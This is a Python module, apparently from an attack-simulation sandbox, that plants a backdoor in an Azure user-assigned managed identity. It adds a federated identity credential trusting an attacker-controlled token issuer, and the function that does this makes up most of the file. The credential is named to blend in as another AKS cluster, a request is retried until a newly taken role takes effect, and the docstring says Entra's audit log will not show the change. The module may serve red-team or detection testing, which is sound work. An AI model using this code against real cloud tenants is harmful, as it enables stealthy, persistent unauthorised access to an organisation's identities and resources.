"""Attack: a managed identity that trusts an issuer of the attacker's.

Technique   T1098.001 Account Manipulation: Additional Cloud Credentials
Needs       a token with federatedIdentityCredentials/write at the identity; who may grant roles there grants it first
Leaves      one more federated credential, which Entra's audit log does not show; activity log
            Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials/write
Source      https://learn.microsoft.com/rest/api/managedidentity/federated-identity-credentials/create-or-update
"""

import asyncio
import time

from sandbox.attacks.application_fic_backdoor import RogueTrust
from sandbox.attacks.attacker import AUDIENCE, Attacker, AttackFailedError
from sandbox.attacks.stolen_tokens import PATIENCE_S

NAME = "aks-sea-payments"  # looks like one more cluster
SUBJECT = "system:serviceaccount:payments:payments"
_API_VERSION = "2023-01-31"
_PAUSE_S = 0.2
# https://learn.microsoft.com/azure/role-based-access-control/built-in-roles/identity
MANAGED_IDENTITY_CONTRIBUTOR = "e40ec5ca-96e0-45a2-b4ff-59039f2c2b59"


async def plant(attacker: Attacker, arm_token: str, identity: str) -> RogueTrust:
    """Open an issuer and make the identity trust it."""
    issuer = await attacker.open_issuer("rogue-identity")
    path = f"{identity}/federatedIdentityCredentials/{NAME}?api-version={_API_VERSION}"
    properties = {"issuer": issuer, "subject": SUBJECT, "audiences": [AUDIENCE]}
    url = attacker.endpoints["arm"] + path
    deadline = time.monotonic() + PATIENCE_S
    while True:
        answer = await attacker.call("PUT", url, arm_token, {"properties": properties})
        # A role that was just taken is honoured a while later.
        if answer.status_code != 403 or time.monotonic() > deadline:
            break
        await asyncio.sleep(_PAUSE_S)
    if not answer.is_success:
        raise AttackFailedError(
            f"federatedIdentityCredentials: {answer.status_code} {answer.text[:300]}"
        )
    return RogueTrust(answer.json()["id"], issuer, SUBJECT)
